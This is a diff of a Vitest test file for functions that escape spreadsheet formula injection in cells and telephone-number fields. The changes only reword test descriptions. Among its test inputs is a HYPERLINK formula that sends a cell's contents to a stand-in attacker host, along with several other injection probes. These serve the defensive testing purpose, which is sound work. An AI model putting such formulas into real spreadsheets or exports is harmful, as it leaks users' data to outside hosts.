@@ -1,7 +1,7 @@
 import { describe, expect, it } from "vitest";
 import { phoneWithoutFormula, withoutFormula } from "./cell";
 
-describe("a cell that a spreadsheet would run gets an apostrophe before it", () => {
+describe("a cell that a spreadsheet would run is escaped with an apostrophe", () => {
   it.each([
     "=1+1",
     '=HYPERLINK("https://evil.example?"&A1,"Click")',
@@ -35,7 +35,7 @@ describe("a cell that a spreadsheet would run gets an apostrophe before it", () 
   });
 });
 
-describe("any other stands as it is", () => {
+describe("any other cell stays as it is", () => {
   it.each([
     "",
     "Ana Ribeiro",
@@ -58,20 +58,20 @@ describe("any other stands as it is", () => {
 });
 
 it.each(["+44 20 7946 0018", "+1 (555) 010-0199", "(0)30/901.820", "+44\u00A020\u00A07946", "0555 010 019"])(
-  "a telephone number stays as it was typed: %j",
+  "a telephone number stays as typed: %j",
   (text) => {
     expect(phoneWithoutFormula(text)).toBe(text);
   },
 );
 
 it.each(["+44 ext. 5", "=1+1", "+1+1", "+44*2", "@1", "+44\t1", "+A1", "=44 20", "-1|2", "+44\n=1"])(
-  "what stands in the place of a telephone number and is none is made harmless: %j",
+  "what is typed instead of a telephone number is escaped: %j",
   (text) => {
     expect(phoneWithoutFormula(text)).toBe(`'${text}`);
   },
 );
 
-it("a text of blanks without end is judged quickly", () => {
+it("a million blanks are checked quickly", () => {
   const blanks = " ".repeat(1_000_000);
   const started = performance.now();
   expect(withoutFormula(`${blanks}x`)).toBe(`${blanks}x`);
